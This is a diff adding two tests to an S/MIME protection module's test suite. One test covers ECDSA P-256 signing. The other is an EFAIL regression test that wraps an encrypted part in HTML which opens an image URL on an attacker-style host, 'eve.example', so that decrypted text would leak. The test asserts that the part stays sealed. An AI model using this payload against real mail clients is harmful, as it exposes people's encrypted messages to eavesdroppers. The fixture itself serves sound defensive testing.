@@ -59,6 +59,29 @@ describe('S/MIME protector', () => {
     }
   });
 
+  it('signs with an EC (ECDSA P-256) key', async () => {
+    const protector = createSmimeProtector();
+    const fromCarol = new TextEncoder().encode(SAMPLE_MESSAGE.replace('From: Alice <alice@example.test>', 'From: Carol <carol@example.test>'));
+    const sealed = await protector.protect(fromCarol, { sign: true, encrypt: true, recipients: [publicKey('bob')], signer: privateKey('carol'), now });
+    const result = await protector.unprotect(sealed, { decryptionKeys: [privateKey('bob')], verificationKeys: [], trustAnchors: [pki.ca], now });
+    expect(result.signature).toMatchObject({ state: 'valid', signer: 'carol@example.test' });
+    expect(result.malleable).toBe(false);
+  });
+
+  it('never splices a decrypted part into surrounding cleartext (EFAIL): an encrypted part inside multipart/mixed stays sealed', async () => {
+    const protector = createSmimeProtector();
+    const sealed = text(await protector.protect(message, { sign: false, encrypt: true, recipients: [publicKey('bob')], now }));
+    const sealedEntity = sealed.slice(sealed.indexOf('Content-Type: application/pkcs7-mime'));
+    const wrapped = [
+      'From: Eve <eve@example.test>', 'To: Bob <bob@example.test>', 'Subject: hi', 'MIME-Version: 1.0',
+      'Content-Type: multipart/mixed; boundary="x"', '', '--x', 'Content-Type: text/html', '', '<img src="https://eve.example/?', '--x',
+      sealedEntity, '--x', 'Content-Type: text/html', '', '">', '--x--', '',
+    ].join('\r\n');
+    const result = await protector.unprotect(new TextEncoder().encode(wrapped), { decryptionKeys: [privateKey('bob')], verificationKeys: [], now });
+    expect(result.decrypted).toBe(false);
+    expect(text(result.message)).not.toContain('Revenue is up.');
+  });
+
   it('flags CBC without a signature as malleable', async () => {
     const protector = createSmimeProtector();
     const sealed = await protector.protect(message, { sign: false, encrypt: true, recipients: [publicKey('bob')], now });
